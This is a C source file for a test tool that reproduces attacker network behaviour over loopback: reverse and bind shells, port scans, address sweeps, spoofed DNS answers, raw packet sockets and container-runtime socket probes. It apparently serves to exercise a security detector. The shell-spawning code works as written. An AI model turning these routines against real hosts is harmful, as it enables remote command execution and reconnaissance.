// Network behaviour of attackers, over loopback only: `network SUBCOMMAND [ARGUMENT...]`.
// Exit 0: it was done. Exit 1: the kernel refused (message on standard error). Exit 2: wrong usage.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

// a listener on ADDRESS; *port 0 asks the kernel for a free one
static int listener(const char *address, uint16_t *port) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(*port)};
    if (inet_pton(AF_INET, address, &at.sin_addr) != 1) errx(2, "not an IPv4 address: %s", address);
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int on = 1;
    if (fd < 0) err(1, "socket");
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(fd, (struct sockaddr *)&at, sizeof at) < 0) err(1, "bind %s:%u", address, *port);
    if (listen(fd, 16) < 0) err(1, "listen");
    socklen_t size = sizeof at;
    if (getsockname(fd, (struct sockaddr *)&at, &size) < 0) err(1, "getsockname");
    *port = ntohs(at.sin_port);
    return fd;
}

// connects within two seconds; -1 with errno when nobody answers
static int dial(const char *address, uint16_t port, int flags) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    if (inet_pton(AF_INET, address, &to.sin_addr) != 1) errx(2, "not an IPv4 address: %s", address);
    int fd = socket(AF_INET, SOCK_STREAM | flags, 0);
    if (fd < 0) err(1, "socket");
    struct timeval patience = {.tv_sec = 2};
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0) {
        int why = errno;
        close(fd);
        errno = why;
        return -1;
    }
    return fd;
}

static uint16_t port_of(const char *text) {
    char *end;
    unsigned long port = strtoul(text, &end, 10);
    if (*end || port > 65535) errx(2, "not a port: %s", text);
    return (uint16_t)port;
}

static void say(int fd, const char *text) {
    if (write(fd, text, strlen(text)) < 0) err(1, "write");
}

// reads to the end of the stream; 1 when NEEDLE came by
static int hears(int fd, const char *needle) {
    char buffer[4096] = {0};
    size_t have = 0;
    ssize_t n;
    while (have < sizeof buffer - 1 && (n = read(fd, buffer + have, sizeof buffer - 1 - have)) > 0) have += (size_t)n;
    return strstr(buffer, needle) != NULL;
}

static int finish(pid_t child) {
    int status = 0;
    if (waitpid(child, &status, 0) < 0) err(1, "waitpid");
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

// a shell whose three standard streams are a connection to somebody who types
static int reverse_shell(int argc, char **argv) {
    const char *shell = argc > 0 ? argv[0] : "/bin/sh";
    const char *typed = argc > 1 ? argv[1] : "id";
    uint16_t port = 0;
    int door = listener("127.0.0.1", &port);
    pid_t victim = fork();
    if (victim < 0) err(1, "fork");
    if (victim == 0) {
        int s = dial("127.0.0.1", port, 0);
        if (s < 0) err(1, "connect");
        for (int i = 0; i < 3; i++)
            if (dup2(s, i) < 0) err(1, "dup2");
        if (s > 2) close(s);
        execl(shell, shell, (char *)NULL);
        _exit(127);
    }
    int s = accept(door, NULL, NULL);
    if (s < 0) err(1, "accept");
    say(s, typed);
    say(s, "; echo over\nexit\n");
    if (!hears(s, "over")) errx(1, "the shell did not answer");
    return finish(victim);
}

// a shell behind a listening port
static int bind_shell(int argc, char **argv) {
    const char *shell = argc > 0 ? argv[0] : "/bin/sh";
    uint16_t port = 0;
    int door = listener("127.0.0.1", &port);
    pid_t victim = fork();
    if (victim < 0) err(1, "fork");
    if (victim == 0) {
        int s = accept(door, NULL, NULL);
        if (s < 0) err(1, "accept");
        for (int i = 0; i < 3; i++) dup2(s, i);
        if (s > 2) close(s);
        execl(shell, shell, (char *)NULL);
        _exit(127);
    }
    int s = dial("127.0.0.1", port, SOCK_CLOEXEC);
    if (s < 0) err(1, "connect");
    say(s, "id; echo over\nexit\n");
    if (!hears(s, "over")) errx(1, "the shell did not answer");
    return finish(victim);
}

// connect ADDRESS PORT: nobody need answer; the attempt is the point
static int connect_to(int argc, char **argv) {
    if (argc != 2) errx(2, "connect ADDRESS PORT");
    int s = dial(argv[0], port_of(argv[1]), SOCK_CLOEXEC);
    if (s < 0 && errno != ECONNREFUSED && errno != EINPROGRESS && errno != EAGAIN && errno != ETIMEDOUT && errno != EHOSTUNREACH) err(1, "connect");
    if (s >= 0) close(s);
    return 0;
}

// own ADDRESS: gives the loopback device of this (throw-away) network namespace one more address
static void own(const char *address) {
    char here[64] = {0};
    if (readlink("/proc/self/ns/net", here, sizeof here - 1) < 0) err(1, "/proc/self/ns/net");
    const char *host = getenv("HOST_NETNS");
    if (!host || !strcmp(host, here)) errx(1, "refused: an address is only added in a network namespace of one's own (HOST_NETNS)");
    struct ifreq request = {0};
    struct sockaddr_in at = {.sin_family = AF_INET};
    inet_pton(AF_INET, address, &at.sin_addr);
    strcpy(request.ifr_name, "lo:1");
    memcpy(&request.ifr_addr, &at, sizeof at);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || ioctl(fd, SIOCSIFADDR, &request) < 0) err(1, "adding %s", address);
    inet_pton(AF_INET, "255.255.255.255", &at.sin_addr);
    memcpy(&request.ifr_netmask, &at, sizeof at);
    if (ioctl(fd, SIOCSIFNETMASK, &request) < 0) err(1, "netmask");
    close(fd);
}

// talk ADDRESS PORT TEXT: a service on an address of our own, and a client that says TEXT to it
static int talk(int argc, char **argv) {
    if (argc != 3) errx(2, "talk ADDRESS PORT TEXT");
    uint16_t port = port_of(argv[1]);
    if (strncmp(argv[0], "127.", 4)) own(argv[0]);
    int door = listener(argv[0], &port);
    int s = dial(argv[0], port, SOCK_CLOEXEC);
    if (s < 0) err(1, "connect");
    int there = accept(door, NULL, NULL);
    if (there < 0) err(1, "accept");
    say(s, argv[2]);
    shutdown(s, SHUT_WR);
    return hears(there, argv[2]) ? 0 : 1;
}

// scan FIRST COUNT: one connect after the other, all on loopback
static int scan(int argc, char **argv) {
    if (argc != 2) errx(2, "scan FIRST COUNT");
    unsigned first = port_of(argv[0]), count = port_of(argv[1]);
    for (unsigned port = first; port < first + count && port < 65536; port++) {
        int s = dial("127.0.0.1", (uint16_t)port, SOCK_CLOEXEC);
        if (s >= 0) close(s);
    }
    return 0;
}

// sweep PORT COUNT: the same port of one loopback address after the other
static int sweep(int argc, char **argv) {
    if (argc != 2) errx(2, "sweep PORT COUNT");
    unsigned port = port_of(argv[0]), count = port_of(argv[1]);
    for (unsigned n = 1; n <= count && n < 255; n++) {
        char address[16];
        snprintf(address, sizeof address, "127.0.0.%u", n);
        int s = dial(address, (uint16_t)port, SOCK_CLOEXEC);
        if (s >= 0) close(s);
    }
    return 0;
}

// a DNS question for the addresses of a name; gives its size
static size_t question(unsigned char packet[512], unsigned char id, const char *name) {
    memset(packet, 0, 512);
    packet[0] = 0x12, packet[1] = id, packet[2] = 1, packet[5] = 1;
    size_t n = 12;
    for (const char *label = name; *label;) {
        size_t size = strcspn(label, ".");
        if (size == 0 || size > 63 || n + size + 6 > 512) errx(2, "not a name: %s", name);
        packet[n++] = (unsigned char)size;
        memcpy(packet + n, label, size);
        n += size;
        label += size;
        if (*label == '.') label++;
    }
    packet[n++] = 0;
    packet[n + 1] = 1;  // A
    packet[n + 3] = 1;  // IN
    return n + 4;
}

// where name servers are: on loopback, in the network namespace of the caller
static int name_service(struct sockaddr_in *at) {
    *at = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "127.0.0.53", &at->sin_addr);
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) err(1, "socket");
    return fd;
}

// query NAME: one DNS question to loopback; nobody need answer
static int query(int argc, char **argv) {
    if (argc < 1) errx(2, "query NAME...");
    struct sockaddr_in at;
    int fd = name_service(&at);
    for (int i = 0; i < argc; i++) {
        unsigned char packet[512];
        size_t n = question(packet, (unsigned char)i, argv[i]);
        if (sendto(fd, packet, n, 0, (struct sockaddr *)&at, sizeof at) < 0 && errno != ECONNREFUSED) err(1, "sendto");
    }
    return 0;
}

// resolve NAME ADDRESS PORT: a name server of our own says ADDRESS, which is then connected to; nobody need answer there
static int resolve(int argc, char **argv) {
    if (argc != 3) errx(2, "resolve NAME ADDRESS PORT");
    struct sockaddr_in at, peer;
    socklen_t size = sizeof peer;
    int server = name_service(&at), fd = name_service(&at);
    if (bind(server, (struct sockaddr *)&at, sizeof at) < 0) err(1, "bind 127.0.0.53:53");
    unsigned char packet[512];
    size_t n = question(packet, 1, argv[0]);
    if (sendto(fd, packet, n, 0, (struct sockaddr *)&at, sizeof at) < 0) err(1, "sendto");
    if (recvfrom(server, packet, sizeof packet, 0, (struct sockaddr *)&peer, &size) < 0) err(1, "recvfrom");
    // RFC 1035: an answer, whose name is the one at byte 12, of type A and class IN, for a minute
    static const unsigned char record[12] = {0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4};
    packet[2] |= 0x80, packet[7] = 1;
    memcpy(packet + n, record, sizeof record);
    if (inet_pton(AF_INET, argv[1], packet + n + sizeof record) != 1) errx(2, "not an IPv4 address: %s", argv[1]);
    if (sendto(server, packet, n + sizeof record + 4, 0, (struct sockaddr *)&peer, size) < 0) err(1, "sendto");
    if (recv(fd, packet, sizeof packet, 0) < 0) err(1, "recv");
    return connect_to(argc - 1, argv + 1);
}

// a socket that sees whole frames
static int packet_socket(int argc, char **argv) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(0x0003));
    if (fd < 0) err(1, "socket(AF_PACKET)");
    return 0;
}

// runtime-socket PATH: a stand-in for a container runtime's socket, and a client that connects to it
static int runtime_socket(int argc, char **argv) {
    if (argc != 1) errx(2, "runtime-socket PATH");
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    if (strlen(argv[0]) >= sizeof at.sun_path) errx(2, "path too long");
    strcpy(at.sun_path, argv[0]);
    int door = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (door < 0 || s < 0) err(1, "socket");
    if (bind(door, (struct sockaddr *)&at, sizeof at) < 0) err(1, "bind %s", argv[0]);
    if (listen(door, 1) < 0 || connect(s, (struct sockaddr *)&at, sizeof at) < 0) err(1, "connect %s", argv[0]);
    say(s, "GET /containers/json HTTP/1.0\r\n\r\n");
    return unlink(argv[0]);
}

static const struct {
    const char *name;
    int (*run)(int, char **);
} subcommands[] = {
    {"reverse-shell", reverse_shell}, {"bind-shell", bind_shell}, {"connect", connect_to},         {"talk", talk},
    {"scan", scan},                   {"sweep", sweep},           {"query", query},                {"packet-socket", packet_socket},
    {"runtime-socket", runtime_socket}, {"resolve", resolve},
};

int main(int argc, char **argv) {
    alarm(30);  // whatever goes wrong, it ends
    signal(SIGPIPE, SIG_IGN);
    for (size_t i = 0; argc > 1 && i < sizeof subcommands / sizeof *subcommands; i++)
        if (!strcmp(argv[1], subcommands[i].name)) return subcommands[i].run(argc - 2, argv + 2);
    errx(2, "unknown subcommand '%s'", argc > 1 ? argv[1] : "");
}
